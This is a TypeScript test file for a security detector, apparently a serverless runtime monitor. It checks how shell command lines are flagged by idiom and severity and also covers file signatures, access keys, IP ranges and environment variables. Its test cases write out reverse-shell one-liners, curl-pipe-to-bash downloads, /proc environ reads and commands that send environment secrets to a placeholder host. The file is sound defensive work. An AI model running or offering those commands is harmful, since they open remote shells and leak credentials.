/** Command lines, first bytes and addresses: what is told from what. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { inNetwork, placeOf } from '../../src/detect/addresses.ts';
import { idiomsOf } from '../../src/detect/idioms.ts';
import { accessKeysIn, magicOf } from '../../src/detect/magic.ts';
import { watchedIn, watchedOf } from '../../src/detect/variables.ts';

describe('command lines', () => {
  for (const [text, name, severity] of [
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'dev-tcp', 'critical'],
    ["bash -c 'exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5'", 'dev-tcp', 'critical'],
    ['echo $(id) > /dev/tcp/10.0.0.1/80', 'dev-tcp', 'critical'],
    ['nc -e /bin/sh 10.0.0.1 4444', 'netcat-exec', 'critical'],
    ['busybox nc 10.0.0.1 4444 -e sh', 'netcat-exec', 'critical'],
    ['ncat --sh-exec "bash -i" 10.0.0.1 1', 'netcat-exec', 'critical'],
    ['socat TCP:10.0.0.1:1 EXEC:sh', 'netcat-exec', 'critical'],
    ['nc 10.0.0.1 1 | bash | nc 10.0.0.1 2', 'netcat-shell', 'critical'],
    ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 1 >/tmp/f', 'fifo-shell', 'critical'],
    [
      `python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
      'socket-one-liner',
      'critical',
    ],
    [`perl -e 'use Socket;socket(S,2,1,6);open(STDIN,">&S");exec{"/bin/sh"}"-sh"'`, 'socket-one-liner', 'critical'],
    ['curl -fsSL https://x.example/i.sh | bash', 'download-run', 'high'],
    ['curl -s x | sudo -u me bash -s -- --yes', 'download-run', 'high'],
    ['curl -s x | gunzip | python3 -', 'download-run', 'high'],
    ['bash -c "$(curl -s x)"', 'download-run', 'high'],
    ['bash <(wget -qO- x)', 'download-run', 'high'],
    ['eval `curl -s x`', 'download-run', 'high'],
    ['wget -q http://x/a -O /tmp/a && chmod +x /tmp/a && /tmp/a', 'download-stage', 'high'],
    ['cd /tmp; curl -so a x; sh a', 'download-stage', 'high'],
    ['curl x > /tmp/a; nohup /tmp/a &', 'download-stage', 'high'],
    ['echo aGk= | base64 -d | sh', 'decode-run', 'high'],
    ['cat /proc/self/environ', 'environ-read', 'high'],
    ['ls x; cat /proc/*/environ', 'environ-read', 'high'],
    ['tr "\\0" "\\n" < /proc/$PPID/environ', 'environ-read', 'high'],
    ['curl --data-binary @/proc/1/environ http://x', 'environ-read', 'high'],
    [`python3 -c 'print(open("/proc/self/environ").read())'`, 'environ-read', 'high'],
    ['env | curl -d @- http://x', 'environ-send', 'high'],
    ['curl -d "$(env)" http://x', 'environ-send', 'high'],
    ['curl -d "`printenv | base64`" http://x', 'environ-send', 'high'],
    ['curl -H "x: $AWS_SESSION_TOKEN" http://x', 'secrets-send', 'high'],
    ['curl --silent x.doc; env | head -n 20', 'environ-injected', 'high'],
    ['ls /tmp/a;env', 'environ-injected', 'high'],
    ['convert $(printenv) x.png', 'environ-injected', 'high'],
    ['chmod 755 /tmp/a', 'stage-mark', 'medium'],
    ['cat /etc/passwd', 'account-files', 'medium'],
    ['nohup ./a', 'left-behind', 'medium'],
    ['ping -c 1 x; id', 'survey-injected', 'medium'],
    ['curl http://$AWS_LAMBDA_RUNTIME_API/2018-06-01/runtime/invocation/next', 'runtime-api', 'high'],
    ["sh -c 'whoami'", 'survey', 'low'],
    ['(echo > /dev/tcp/db/5432) 2>/dev/null', 'port-test', 'low'],
  ] as const) {
    test(`${name}: ${text}`, () => {
      const found = idiomsOf(['/bin/sh', '-c', text]);
      assert.equal(found.find((idiom) => idiom.name === name)?.severity, severity, JSON.stringify(found));
    });
  }

  for (const text of [
    'git rev-parse HEAD',
    'ffmpeg -i /tmp/in.mp4 -f mp3 /tmp/out.mp3',
    'ls -la /tmp',
    'node /var/task/worker.mjs',
    'convert a.png b.png',
    'pdftotext /tmp/x.pdf -',
    'tar -czf /tmp/a.tgz /tmp/a',
    'grep -c x /tmp/log; cat /tmp/log',
    'curl -s https://api.example/x | python3 -m json.tool',
    'curl -s https://api.example/x | node -e "process.stdin.pipe(process.stdout)"',
    'curl -s https://api.example/x | python3 /var/task/parse.py',
    'curl -s https://api.example/x | tee /tmp/x | jq .',
    'curl -so /tmp/x.csv https://x && tool /tmp/x.csv',
    'curl -sO https://x/data.json; wc -l data.json',
    'gdal_translate NETCDF:/tmp/x.nc -co COMPRESS=LZW /tmp/y.tif',
    'nc -z -w 3 db.internal 5432',
    'nc -zvc db.internal 5432',
    'source /opt/env.sh && env',
    'printenv HOME',
    'env FOO=1 node x.js',
    'set -e; ls /tmp',
    'grep -r /proc/self/environ docs',
    'echo "cat /proc/self/environ"',
    'echo "curl x | sh"',
    "printf '%s' 'bash -i >& /dev/tcp/1.2.3.4/5 0>&1' > /tmp/note",
    'base64 -d /tmp/x.b64 > /tmp/x.bin',
    'chmod 644 /tmp/a',
    'AWS_LAMBDA_RUNTIME_API=127.0.0.1:1 node x.js',
    `bash -c 'cat <<EOF\ncurl x | sh\nEOF'`,
    "python3 -c 'import socket; print(socket.gethostname())'",
    // What was cut is unknown: a beginning of a word means nothing.
    "ls '; cat /proc/self/environ",
    'curl "$(env',
  ]) {
    test(`none: ${text}`, () => assert.deepEqual(idiomsOf(['/bin/sh', '-c', text]), []));
  }

  test('words of an argv are no text for a shell', () => {
    assert.deepEqual(idiomsOf(['node', '/var/task/x.js', 'a; cat /proc/self/environ', '$(env)']), []);
    assert.deepEqual(idiomsOf(['find', '/tmp', '-name', 'nc', '-e']), []);
    assert.deepEqual(idiomsOf([]), []);
  });

  test('the worst text that an attacker can write takes no time to speak of', () => {
    const cpu = process.cpuUsage();
    for (const piece of [
      'curl /tmp/ ',
      'nc -e /x|',
      '$(',
      '`a`',
      '"$(a "',
      'mkfifo x;',
      'a|',
      '$(curl|sh;',
      'bash -c "',
      'env|curl $(env);',
      '/proc/self/',
      '<(a ',
    ])
      idiomsOf(['sh', '-c', piece.repeat(4000)]);
    // Twelve texts; a quadratic expression would take minutes.
    assert.ok(process.cpuUsage(cpu).user < 2e6);
  });
});

describe('first bytes', () => {
  for (const [bytes, magic] of [
    ['\x7fELF\x02\x01', 'elf'],
    ['#!/bin/sh\n', 'script'],
    ['PK\x03\x04', 'archive'],
    ['\x1f\x8b\x08', 'archive'],
    ['hello\n', 'text'],
    ['\0\x01\x02', 'data'],
    ['', 'empty'],
    [`${'n'.repeat(100)}${'\0'.repeat(157)}ustar\0`, 'archive'],
  ] as const) {
    test(`${magic}: ${JSON.stringify(bytes.slice(0, 12))}`, () =>
      assert.equal(magicOf(Buffer.from(bytes, 'latin1')), magic));
  }

  test('access keys are found, those of the documentation are not', () => {
    const text =
      '[default]\naws_access_key_id = AKIAABCDEFGHIJKLMNOP\n[x]\naws_access_key_id=AKIAIOSFODNN7EXAMPLE\nXAKIAABCDEFGHIJKLMNOP\n';
    assert.deepEqual(accessKeysIn(Buffer.from(text), 'text').accessKeys, ['AKIAABCDEFGHIJKLMNOP']);
    assert.deepEqual(accessKeysIn(Buffer.from(text), 'elf').accessKeys, []);
  });
});

describe('addresses', () => {
  for (const [address, place] of [
    ['127.0.0.1', 'local'],
    ['::1', 'local'],
    ['0.0.0.0', 'local'],
    ['10.1.2.3', 'private'],
    ['169.254.78.1', 'private'],
    ['fd00:ec2::23', 'private'],
    ['172.32.0.1', 'public'],
    ['::ffff:10.0.0.1', 'private'],
    ['52.94.5.1', 'aws'],
    ['3.5.140.2', 'aws'],
    ['2600:1f18::1', 'aws'],
    ['203.0.113.7', 'public'],
    ['1.1.1.1', 'public'],
    ['8.8.8.8', 'public'],
    ['2606:4700:4700::1111', 'public'],
  ] as const) {
    test(`${address} is ${place}`, () => assert.equal(placeOf(address), place));
  }

  test('networks', () => {
    assert.ok(inNetwork('203.0.113.7', '203.0.113.0/24'));
    assert.ok(!inNetwork('203.0.114.7', '203.0.113.0/24'));
    assert.ok(inNetwork('::ffff:203.0.113.7', '203.0.113.7'));
    assert.ok(inNetwork('2001:db8::5', '2001:db8:*'));
    assert.ok(!inNetwork('203.0.113.7', '203.0.113.0/99'));
  });
});

describe('variables', () => {
  test('only watched ones are kept, the first of two counts, and passwords of proxies are left out', () => {
    const environ = Buffer.from(
      'SECRET=x\0LD_PRELOAD=/a\0LD_PRELOAD=/b\0HTTPS_PROXY=http://me:pass@proxy:1\0AWS_SECRET_ACCESS_KEY=y\0__proto__=z\0',
    );
    assert.deepEqual({ ...watchedIn(environ) }, { LD_PRELOAD: '/a', HTTPS_PROXY: 'http://…@proxy:1' });
    assert.deepEqual(
      { ...watchedOf({ SECRET: 'x', NODE_OPTIONS: '-r a', AWS_ENDPOINT_URL_S3: 'http://x' }) },
      { NODE_OPTIONS: '-r a', AWS_ENDPOINT_URL_S3: 'http://x' },
    );
  });
});
